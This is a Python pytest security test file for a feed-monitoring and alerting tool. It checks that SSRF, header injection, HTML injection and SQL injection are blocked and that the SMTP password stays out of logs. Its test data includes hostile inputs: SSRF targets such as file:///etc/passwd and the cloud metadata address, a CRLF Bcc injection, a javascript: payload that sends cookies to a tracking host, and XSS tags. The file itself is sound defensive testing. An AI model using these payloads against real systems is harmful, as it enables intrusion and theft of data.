"""Security gaps left by test_fetch.py and test_alerts.py: every SSRF address class and
scheme, hostile text in alert headers and HTML, SQL built only from fixed parts,
owner-only files, and a password that never reaches a log or the warehouse.
"""

from __future__ import annotations

import ast
import asyncio
import ipaddress
import os
import re
import ssl
import stat
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from email import message_from_bytes, policy
from email.message import EmailMessage
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from aiosmtpd.controller import Controller
from aiosmtpd.smtp import SMTP, AuthResult, Envelope, LoginPassword, Session
from cryptography import x509

from monitor.alerts.cycle import detect_and_queue
from monitor.config import HttpSettings
from monitor.demo import demo_site_root
from monitor.errors import BlockedAddress
from monitor.feeds import parse_feed
from monitor.fetch import Fetcher, Response, is_public_address
from monitor.sample_site import Route, serve_site
from monitor.warehouse import open_warehouse

from .alerts_fixtures import R1_RIGHT, R1_WRONG, T0, Sink, figure, free_port, store
from .alerts_fixtures import write_alert_config as alert_config
from .conftest import REPO, write_demo_feeds_config
from .faults_support import dump_warehouse, query, run_cycle, warehouse_of
from .test_smtp_tls import self_signed

REFUSING = HttpSettings(timeout=2)  # the defaults: allow_private is off


def fetch(fetcher_class: type[Fetcher], url: str, settings: HttpSettings = REFUSING) -> Response:
    async def go() -> Response:
        async with fetcher_class(settings) as fetcher:
            return await fetcher.get(url)

    return asyncio.run(go())


# --- SSRF: every address class, IPv4 and IPv6 --------------------------------------

REFUSED_ADDRESSES = {
    "loopback": ["127.0.0.1", "127.255.255.254", "::1"],
    "private": ["10.0.0.1", "172.16.5.4", "192.168.1.1", "fc00::1", "fd12:3456::1"],
    "shared (carrier NAT)": ["100.64.0.1", "100.127.255.254"],
    "link-local": ["169.254.169.254", "fe80::1", "fe80::1%eth0"],
    "multicast": ["224.0.0.1", "239.255.255.250", "ff02::1", "ff0e::1"],
    "reserved": ["240.0.0.1", "255.255.255.255", "198.18.0.1", "192.0.0.1"],
    "documentation": ["192.0.2.1", "198.51.100.7", "203.0.113.9", "2001:db8::1"],
    "unspecified": ["0.0.0.0", "::", "0.1.2.3"],
    "IPv4 inside IPv6": [
        "::ffff:127.0.0.1",  # mapped
        "::ffff:10.0.0.1",
        "64:ff9b::7f00:1",  # NAT64 of 127.0.0.1
        "2002:7f00:1::1",  # 6to4 of 127.0.0.1
        "2002:a9fe:a9fe::1",  # 6to4 of 169.254.169.254
        "2001:0:4136:e378:8000:63bf:3fff:fdd2",  # Teredo
    ],
}
PUBLIC_ADDRESSES = ["8.8.8.8", "93.184.215.14", "2606:4700::1111", "2a00:1450:4001::1"]


@pytest.mark.parametrize(
    "address",
    [a for group in REFUSED_ADDRESSES.values() for a in group],
)
def test_non_public_addresses_are_refused(address: str) -> None:
    assert not is_public_address(address)


@pytest.mark.parametrize("address", PUBLIC_ADDRESSES)
def test_public_addresses_are_allowed(address: str) -> None:
    assert is_public_address(address)


@pytest.mark.integration
def test_every_spelling_of_this_machine_is_refused_before_connecting(tmp_path: Path) -> None:
    with serve_site(tmp_path) as site:
        port = site.base.rsplit(":", 1)[1]
        hosts = [
            "127.0.0.1",
            "localhost",
            "LOCALHOST",
            "127.1",
            "2130706433",
            "0x7f000001",
            "0177.0.0.1",
            "[::1]",
            "[::ffff:127.0.0.1]",
            "0.0.0.0",
        ]
        for host in hosts:
            with pytest.raises(BlockedAddress, match="non-public address"):
                fetch(Fetcher, f"http://{host}:{port}/feed.xml")
        assert site.requests == []


@pytest.mark.parametrize(
    "url",
    [
        "file:///etc/passwd",
        "ftp://127.0.0.1/feed.xml",
        "gopher://127.0.0.1:70/_GET",
        "data:text/xml,<rss/>",
        "javascript:alert(1)",
        "ws://127.0.0.1/feed",
        "dict://127.0.0.1:11211/stat",
        "//no-scheme.example/feed",
        "http:///no-host",
    ],
)
def test_only_http_and_https_are_fetched(url: str) -> None:
    with pytest.raises(BlockedAddress, match="refusing scheme"):
        fetch(Fetcher, url, HttpSettings(allow_private=True))


def test_feed_entries_with_other_schemes_are_dropped() -> None:
    links = [
        "file:///etc/passwd",
        "ftp://h.test/a",
        "gopher://h.test/a",
        "data:text/html,x",
        "javascript:alert(1)",
        "mailto:a@h.test",
        "https://h.test/ok",
    ]
    items = "".join(f"<item><link>{link}</link></item>" for link in links)
    body = f"<rss version='2.0'><channel><title>t</title>{items}</channel></rss>".encode()
    assert [e.url for e in parse_feed(body, "https://h.test/f").entries] == ["https://h.test/ok"]


@pytest.mark.integration
@pytest.mark.parametrize(
    "target",
    [
        "{base}/secret",
        "http://localhost:{port}/secret",
        "http://169.254.169.254/latest/meta-data/",
        "http://[::1]:{port}/secret",
        "http://10.0.0.1/admin",
        "file:///etc/passwd",
        "gopher://127.0.0.1:{port}/_secret",
    ],
)
def test_a_redirect_from_an_allowed_host_to_a_refused_one_is_not_followed(
    tmp_path: Path, target: str
) -> None:
    with serve_site(tmp_path) as site:
        first = f"{site.base}/hop"

        class FirstHopAllowed(Fetcher):
            """Treats the first URL as a public host would be treated; checks the rest."""

            async def _check_target(self, url: str) -> str:
                if url == first:
                    return "allowed.example"
                return await super()._check_target(url)

        location = target.format(base=site.base, port=site.base.rsplit(":", 1)[1])
        site.routes["/hop"] = Route(302, headers={"Location": location})
        site.routes["/secret"] = Route(200, b"internal only")
        with pytest.raises(BlockedAddress):
            fetch(FirstHopAllowed, first)
        assert [path for path, _ in site.requests] == ["/hop"]  # /secret never asked for


# --- email: nothing from an article reaches a header; nothing remote in the HTML --------

HOSTILE = "R1\r\nBcc: victim@evil.example\r\nX-Injected: 1\x00\x1b[31m\u2028\u0085"
ALLOWED_HEADERS = {
    "subject",
    "from",
    "to",
    "date",
    "message-id",
    "list-unsubscribe",
    "auto-submitted",
    "x-monitor-contradiction",
    "mime-version",
    "content-type",
    "list-unsubscribe-post",
}


def queued_message(tmp_path: Path, right: Any, wrong: Any) -> EmailMessage:
    config = alert_config(tmp_path, [{"email": "ana@example.org"}])
    with open_warehouse(config.warehouse.path) as con:
        store(con, right)
        store(con, wrong)
    detect_and_queue(config, [right.url, wrong.url], T0)
    with open_warehouse(config.warehouse.path) as con:
        ((raw,),) = con.execute("SELECT message FROM outbox").fetchall()
    msg = message_from_bytes(raw.encode(), policy=policy.default)
    assert isinstance(msg, EmailMessage)
    return msg


@pytest.mark.parametrize("where", ["subject", "title", "outlet", "chip", "quote", "url"])
def test_control_characters_from_articles_never_reach_a_header(tmp_path: Path, where: str) -> None:
    subject = f"DeepSeek-{HOSTILE}" if where == "subject" else "DeepSeek-R1"
    chip = HOSTILE if where == "chip" else None
    quote = f"R1 cost $249,000 {HOSTILE}" if where == "quote" else "R1 cost $249,000"
    kind = {"kind": "chips", "metric": "chip_count", "unit": "chips"} if chip else {}
    right_fig = figure(subject=subject, chip=chip, value=2048 if chip else 294000, **kind)
    wrong_fig = figure(
        subject=subject, chip=chip, value=4096 if chip else 249000, quote=quote, **kind
    )
    right = replace(R1_RIGHT, figures=[{**right_fig, "quote": "R1 cost $294,000 to train"}])
    wrong = replace(
        R1_WRONG,
        figures=[wrong_fig],
        title=HOSTILE if where == "title" else R1_WRONG.title,
        outlet=f"Wire {HOSTILE}" if where == "outlet" else R1_WRONG.outlet,
        url=f"https://evil.example/r1?{HOSTILE}" if where == "url" else R1_WRONG.url,
    )
    msg = queued_message(tmp_path, right, wrong)
    assert {name.lower() for name in msg} <= ALLOWED_HEADERS
    assert msg["Bcc"] is None and msg["X-Injected"] is None
    for name, value in msg.items():
        assert not re.search(r"[\x00-\x1f\x7f-\x9f\u2028\u2029]", str(value)), (name, value)
    assert msg.get_all("To") == ["ana@example.org"]


def test_alert_html_loads_nothing_remote_and_links_only_to_the_web(tmp_path: Path) -> None:
    hostile_url = "javascript:fetch('https://track.example/?'+document.cookie)"
    wrong = replace(
        R1_WRONG,
        url=hostile_url,
        title='<img src="https://track.example/p.gif"><link rel=stylesheet href=//x.example/s.css>',
        outlet="<svg onload=alert(1)><style>@import url(https://x.example/a.css)</style>",
        figures=[figure(value=249000, quote="R1 cost $249,000 <script src=//x.example/a.js>")],
    )
    msg = queued_message(tmp_path, R1_RIGHT, wrong)
    part = msg.get_body(("html",))
    assert part is not None
    tags = Tags()
    tags.feed(part.get_content())
    assert tags.names and not tags.names & {
        "img",
        "script",
        "link",
        "svg",
        "style",
        "iframe",
        "object",
        "embed",
        "video",
        "audio",
        "form",
    }
    attributes = {name for _, name, _ in tags.attributes}
    assert not attributes & {"src", "srcset", "background", "poster", "action"}
    assert not [a for a in attributes if a.startswith("on")]  # no event handlers
    assert all("url(" not in value for _, name, value in tags.attributes if name == "style")
    hrefs = [value for _, name, value in tags.attributes if name == "href"]
    assert hrefs and all(h.startswith(("https://", "http://", "mailto:")) for h in hrefs), hrefs
    assert "<img" in part.get_content().replace("&lt;img", "<img")  # the title was there, escaped


class Tags(HTMLParser):
    """The real tags and attributes of an HTML document (escaped text is not a tag)."""

    def __init__(self) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


# --- data safety: SQL is built only from fixed parts ------------------------------------

SQL_WORDS = re.compile(
    r"\b(SELECT|INSERT|UPDATE|DELETE|CREATE|DROP|ALTER|COPY|ATTACH|FROM|WHERE|LIMIT|EXCLUDE"
    r"|VALUES|ON CONFLICT)\b"
)
CONSTANT_NAME = re.compile(r"^_?[A-Z][A-Z0-9_]*$")
# Functions that quote an identifier or make a number: their output is safe in SQL text.
SAFE_CALLS = {"_ident", "int", "len", "range"}
# Parameters that are spliced into SQL as identifiers or fixed clauses; every call site
# must pass fixed text (literals or module constants) for them.
SPLICED_PARAMETERS = {
    "upsert": ("table", "columns", "key", "update"),
    "update_rows": ("table", "key", "columns"),
    "load_contradictions": ("where",),
    "load_figures": ("where",),
    "figures_sql": ("where",),
}
# f-strings that mention SQL words but are never executed, each with the reason.
NOT_EXECUTED = {("src/monitor/demo.py", "run_demo"): "prints a query command for the user"}


class Scope:
    """What a module and one of its functions assign, for tracing where a value comes from."""

    def __init__(self, module: ast.Module, function: ast.FunctionDef | None) -> None:
        self.constants = {
            t.id
            for node in module.body
            if isinstance(node, (ast.Assign, ast.AnnAssign, ast.ImportFrom))
            for t in _targets(node)
            if CONSTANT_NAME.match(t.id)
        }
        self.locals: dict[str, list[ast.expr]] = {}
        self.params: set[str] = set()
        self.bound: dict[str, ast.expr] = {}  # `for` loop names -> their iterable
        if function is None:
            return
        self.params = {a.arg for a in [*function.args.args, *function.args.kwonlyargs]}
        for node in ast.walk(function):
            if isinstance(node, ast.Assign):
                for t in node.targets:
                    for name, value in _pairs(t, node.value):
                        self.locals.setdefault(name, []).append(value)
            elif isinstance(node, ast.AugAssign) and isinstance(node.target, ast.Name):
                self.locals.setdefault(node.target.id, []).append(node.value)
            elif isinstance(node, ast.For) and isinstance(node.target, ast.Name):
                self.bound[node.target.id] = node.iter

    def safe(
        self,
        expr: ast.expr,
        spliced: tuple[str, ...] = (),
        seen: frozenset[str] = frozenset(),
        env: dict[str, ast.expr] | None = None,
    ) -> bool:
        """True when `expr` can only be fixed text: literals, constants, quoted identifiers.

        `env` binds the loop names of the comprehensions `expr` sits in to their iterables.
        """
        env = env or {}

        def ok(e: ast.expr, names: frozenset[str] = seen) -> bool:
            return self.safe(e, spliced, names, env)

        match expr:
            case ast.Constant():
                return True
            case ast.Name(id=name):
                if name in seen or name in self.constants or name in spliced:
                    return True
                if name in env:
                    return ok(env[name], seen | {name})
                if name in self.bound:
                    return ok(self.bound[name], seen | {name})
                if name in self.locals and name not in self.params:
                    return all(ok(v, seen | {name}) for v in self.locals[name])
                return False
            case ast.JoinedStr(values=values):
                return all(ok(v) for v in values)
            case ast.FormattedValue(value=value):
                return ok(value)
            case ast.Call(func=ast.Name(id=fn)) if fn in SAFE_CALLS:
                return True
            case ast.Call(func=ast.Attribute(value=ast.Constant(), attr="join"), args=[arg]):
                return ok(arg)
            case (
                ast.GeneratorExp(elt=elt, generators=gens) | ast.ListComp(elt=elt, generators=gens)
            ):
                inner = dict(env)
                for g in gens:
                    if isinstance(g.target, ast.Name):
                        inner[g.target.id] = g.iter
                return self.safe(elt, spliced, seen, inner)
            case ast.List(elts=elts) | ast.Tuple(elts=elts):
                return all(ok(e) for e in elts)
            case ast.Subscript(value=value) | ast.Starred(value=value):
                return ok(value)
            case ast.BinOp(left=left, right=right):
                return ok(left) and ok(right)
            case ast.IfExp(body=body, orelse=orelse):
                return ok(body) and ok(orelse)
        return False


def _pairs(target: ast.expr, value: ast.expr) -> list[tuple[str, ast.expr]]:
    """Names an assignment binds, each with the expression it gets (tuples unpacked)."""
    if isinstance(target, ast.Name):
        return [(target.id, value)]
    if isinstance(target, ast.Tuple):
        options = [value.body, value.orelse] if isinstance(value, ast.IfExp) else [value]
        found = []
        for option in options:
            if isinstance(option, ast.Tuple) and len(option.elts) == len(target.elts):
                for t, v in zip(target.elts, option.elts, strict=True):
                    found += _pairs(t, v)
            else:
                found += [(n.id, option) for n in target.elts if isinstance(n, ast.Name)]
        return found
    return []


def _targets(node: ast.stmt) -> list[ast.Name]:
    if isinstance(node, ast.Assign):
        return [t for t in node.targets if isinstance(t, ast.Name)]
    if isinstance(node, ast.AnnAssign) and isinstance(node.target, ast.Name):
        return [node.target]
    if isinstance(node, ast.ImportFrom):
        return [ast.Name(id=a.asname or a.name) for a in node.names]
    return []


def _functions(tree: ast.Module) -> Iterator[tuple[ast.FunctionDef | None, ast.AST]]:
    """Every node with the function it is in (None at module level)."""
    for node in ast.walk(tree):
        if isinstance(node, ast.FunctionDef):
            for inner in ast.walk(node):
                yield node, inner
    top = [n for n in tree.body if not isinstance(n, (ast.FunctionDef, ast.ClassDef))]
    for node in top:
        for inner in ast.walk(node):
            yield None, inner


def _dynamic_sql(node: ast.AST) -> list[ast.expr]:
    """The interpolated parts of an SQL-looking string built at run time."""
    match node:
        case ast.JoinedStr(values=values):
            text = "".join(str(v.value) for v in values if isinstance(v, ast.Constant))
            if SQL_WORDS.search(text):
                return [v for v in values if isinstance(v, ast.FormattedValue)]
        case ast.Call(func=ast.Attribute(value=ast.Constant(value=str(text)), attr="format")):
            if SQL_WORDS.search(text):
                return [*node.args, *(k.value for k in node.keywords)]
        case ast.BinOp(left=ast.Constant(value=str(text)), op=ast.Mod(), right=right):
            if SQL_WORDS.search(text):
                return [right]
    return []


def sql_problems() -> tuple[list[str], int, int]:
    """(problems, dynamic SQL strings checked, call sites checked) over src/monitor."""
    problems: list[str] = []
    strings = calls = 0
    for path in sorted((REPO / "src" / "monitor").rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
        rel = path.relative_to(REPO)
        signatures = {
            f.name: [a.arg for a in f.args.args]
            for f in ast.walk(tree)
            if isinstance(f, ast.FunctionDef)
        }
        scopes: dict[ast.FunctionDef | None, Scope] = {}
        for function, node in _functions(tree):
            scope = scopes.get(function) or scopes.setdefault(function, Scope(tree, function))
            fname = function.name if function else "<module>"
            parts = _dynamic_sql(node)
            if parts and (rel.as_posix(), fname) not in NOT_EXECUTED:
                strings += 1
                spliced = SPLICED_PARAMETERS.get(fname, ())
                for part in parts:
                    if not scope.safe(part, spliced):
                        where = getattr(part, "lineno", "?")
                        problems.append(f"{rel}:{where} in {fname}: {ast.unparse(part)}")
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Name):
                names = SPLICED_PARAMETERS.get(node.func.id)
                if not names:
                    continue
                calls += 1
                order = signatures.get(node.func.id) or imported_signature(node.func.id)
                given = dict(zip(order, node.args, strict=False))
                given |= {k.arg: k.value for k in node.keywords if k.arg}
                for name in names:
                    if name in given and not scope.safe(
                        given[name], SPLICED_PARAMETERS.get(fname, ())
                    ):
                        problems.append(
                            f"{rel}:{node.lineno} in {fname}: {node.func.id}({name}="
                            f"{ast.unparse(given[name])}) is not fixed text"
                        )
    return problems, strings, calls


def imported_signature(name: str) -> list[str]:
    import inspect

    import monitor.contradictions
    import monitor.warehouse

    for module in (monitor.warehouse, monitor.contradictions):
        if hasattr(module, name):
            return list(inspect.signature(getattr(module, name)).parameters)
    return []


def test_sql_is_built_only_from_fixed_parts() -> None:
    problems, strings, calls = sql_problems()
    assert problems == []
    assert strings >= 5 and calls >= 5  # the check found what it is meant to check


def test_the_sql_check_catches_a_value_spliced_into_sql() -> None:
    bad = (
        "def find(con, name):\n"
        "    con.execute(f\"SELECT * FROM articles WHERE title = '{name}'\")\n"
        "def also(con, n):\n"
        "    con.execute('DELETE FROM runs WHERE run_id = %s' % n)\n"
        "COLUMNS = ['a']\n"
        "def fine(con):\n"
        "    con.execute(f\"SELECT {', '.join(COLUMNS)} FROM t\")\n"
    )
    tree = ast.parse(bad)
    flagged = [
        (function.name if function else None)
        for function, node in _functions(tree)
        for part in _dynamic_sql(node)
        if not Scope(tree, function).safe(part)
    ]
    assert flagged == ["find", "also"]


# --- owner-only files and a password that goes nowhere ----------------------------


@contextmanager
def umask(mask: int) -> Iterator[None]:
    old = os.umask(mask)
    try:
        yield
    finally:
        os.umask(old)


@pytest.mark.integration
@pytest.mark.usefixtures("prefect_harness")
def test_warehouse_and_outbox_are_owner_only(tmp_path: Path) -> None:
    with serve_site(demo_site_root()) as site, umask(0o002):  # a lax umask must not matter
        config = write_demo_feeds_config(
            tmp_path, site.base, ['transport = "file"', 'outbox = "outbox"']
        )
        summary = run_cycle(config)
    assert summary["alerts_sent"] == 1
    warehouse = warehouse_of(config)
    outbox = tmp_path / "outbox"
    emails = list(outbox.glob("*.eml"))
    assert len(emails) == 1
    for path in [warehouse, outbox, *emails, *warehouse.parent.glob("monitor.duckdb*")]:
        mode = stat.S_IMODE(path.stat().st_mode)
        assert mode & 0o077 == 0, f"{path.name} is {mode:o}"


def prefect_api_logs(config: Path) -> str:
    """Every log line the runs of this warehouse sent to the Prefect API."""
    from prefect.client.orchestration import get_client
    from prefect.client.schemas.filters import LogFilter, LogFilterFlowRunId
    from prefect.logging.handlers import APILogHandler

    APILogHandler().flush()  # send what is still queued, and wait for it
    ids = [uuid.UUID(r[0]) for r in query(config, "SELECT flow_run_id FROM runs")]
    with get_client(sync_client=True) as client:
        found = client.read_logs(LogFilter(flow_run_id=LogFilterFlowRunId(any_=ids)))
    assert any("cycle completed" in log.message for log in found)
    return "\n".join(log.message for log in found)


class PasswordSink(Sink):
    """Accepts the one login it was given; remembers whether logins succeeded."""

    def __init__(self, password: str) -> None:
        super().__init__()
        self.password = password.encode()
        self.logins: list[bool] = []

    def authenticate(
        self, server: SMTP, session: Session, envelope: Envelope, mechanism: str, data: Any
    ) -> AuthResult:
        ok = isinstance(data, LoginPassword) and data.password == self.password
        self.logins.append(ok)
        return AuthResult(success=ok, handled=False, auth_data=data if ok else None)


@pytest.mark.integration
@pytest.mark.usefixtures("prefect_harness")
def test_the_smtp_password_never_reaches_logs_or_the_warehouse(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
    capfd: pytest.CaptureFixture[str],
) -> None:
    secret = f"pw-{uuid.uuid4().hex}"
    wrong = f"wrong-{uuid.uuid4().hex}"
    cert, key = self_signed(tmp_path / "tls", x509.IPAddress(ipaddress.ip_address("127.0.0.1")))
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert, key)
    sink = PasswordSink(secret)
    port = free_port()
    controller = Controller(
        sink,
        hostname="127.0.0.1",
        port=port,
        tls_context=context,
        require_starttls=True,
        auth_require_tls=True,
        auth_required=True,
        authenticator=sink.authenticate,
    )
    email = [
        'transport = "smtp"',
        'host = "127.0.0.1"',
        f"port = {port}",
        "starttls = true",
        f'ca_file = "{cert}"',
        'username = "alerts"',
        "timeout = 5",
    ]
    caplog.set_level("DEBUG")
    controller.start()
    try:
        with serve_site(demo_site_root()) as site:
            config = write_demo_feeds_config(tmp_path, site.base, email)
            monkeypatch.setenv("MONITOR_EMAIL_PASSWORD", wrong)
            first = run_cycle(config)
            monkeypatch.setenv("MONITOR_EMAIL_PASSWORD", secret)
            second = run_cycle(config)
    finally:
        controller.stop()
    assert (first["alerts_sent"], first["alerts_deferred"]) == (0, 1)
    assert any("authentication failed" in e for e in first["errors"])
    # smtplib tries each offered mechanism before giving up: every try failed, then one worked.
    assert second["alerts_sent"] == 1 and sink.logins[-1] and not any(sink.logins[:-1])
    out, err = capfd.readouterr()
    logs = caplog.text + out + err + prefect_api_logs(config)
    assert "cycle completed" in logs and "Available AUTH mechanisms" in logs  # logs captured
    dump = dump_warehouse(warehouse_of(config))
    assert "authentication failed" in dump  # the failure is stored, without the password
    for password in (secret, wrong):
        assert password not in logs
        assert password not in dump
